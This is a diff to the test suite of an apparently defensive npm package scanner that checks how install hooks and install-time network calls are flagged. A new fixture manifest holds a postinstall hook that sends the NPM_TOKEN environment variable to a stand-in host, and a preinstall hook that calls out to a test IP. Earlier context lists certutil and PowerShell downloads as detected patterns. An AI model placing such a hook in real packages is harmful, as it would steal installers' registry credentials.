@@ -40,7 +40,8 @@ def test_powershell_and_certutil_and_a_quiet_hook() -> None:
         ("installScript", "scripts.install"), ("installScript", "scripts.preinstall"),
         ("installScript", "scripts.prepare"),
         ("network", "certutil"), ("network", "powershell Invoke-WebRequest")]
-    assert next(f for f in found if f.api == "scripts.prepare").note == ""
+    prepare = next(f for f in found if f.api == "scripts.prepare")
+    assert prepare.note == "npm runs prepare only for git and local installs"
 
 
 def test_inline_node_code_runs_the_files_it_requires() -> None:
@@ -73,3 +74,21 @@ def test_end_to_end_install_time_network_is_high(tmp_path: Path) -> None:
         ("networkAccess", "medium", "install.js", 2, "install"),
     ]
     assert pkg["severity"] == "high"
+
+
+def test_inline_hook_code_is_analysed_and_placed_on_the_hook_line(tmp_path: Path) -> None:
+    manifest = json.dumps({"name": "inline", "version": "1.0.0", "scripts": {
+        "postinstall": "node -e \"require('https').get('https://x.example/'+process.env.NPM_TOKEN)\"",
+        "preinstall": "python3 -c \"import urllib.request; urllib.request.urlopen('http://203.0.113.7/')\"",
+    }}, indent=2)
+    tgz = _tgz(tmp_path / "inline.tgz", {"package/package.json": manifest, "package/index.js": "module.exports = 1\n"})
+    result = CliRunner().invoke(main, ["scan", str(tgz), "--format", "json", "--cache-dir", str(tmp_path / "c")])
+    assert result.exit_code == 0, result.stderr
+    [pkg] = json.loads(result.stdout)["packages"]
+    assert pkg["verdict"] == "network"
+    network = sorted((a["api"], a["file"], a["line"], a["timing"]) for a in pkg["alerts"] if a["type"] == "networkAccess")
+    assert network == [("https.get", "package.json", 5, "install"), ("urllib.request.urlopen", "package.json", 6, "install")]
+    hooks = {a["api"]: a["severity"] for a in pkg["alerts"] if a["type"] == "installScripts"}
+    assert hooks == {"scripts.postinstall": "high", "scripts.preinstall": "high"}
+    note = next(a["note"] for a in pkg["alerts"] if a["api"] == "https.get" and a["type"] == "networkAccess")
+    assert note.startswith("in the inline code of the postinstall script (code line 1)")
